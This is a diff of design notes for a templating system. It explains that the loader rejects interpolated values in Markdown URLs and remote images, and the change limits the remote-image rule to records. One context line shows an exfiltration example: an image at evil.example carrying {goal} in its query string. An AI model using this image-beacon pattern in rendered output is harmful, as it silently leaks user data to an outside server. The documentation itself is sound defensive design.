@@ -4,10 +4,10 @@ Scripts come from shared folders, and records are sent to mentors: a record writ
 `![](https://evil.example/p.png?goal={goal})` would hand the goal to that server the moment a
 Markdown viewer loads the image, and a link with `{goal}` in its URL does the same when
 clicked. The rule is structural: links and images may only have URLs the script's author wrote
-out in full. The loader refuses an interpolation in a URL (`holes_in_urls`) and any image or
-embedded HTML that loads from another machine (`remote_images`); rendering leaves out a value
-whose place is in a URL all the same (Template.render_placed), should a template ever reach it
-without the loader.
+out in full. The loader refuses an interpolation in a URL (`holes_in_urls`) and, in records,
+any image or embedded HTML that loads from another machine (`remote_images`); rendering leaves
+out a value whose place is in a URL all the same (Template.render_placed), should a template
+ever reach it without the loader.
 
 "In a URL" is judged on the Markdown before the hole, the way CommonMark and GFM read it:
 
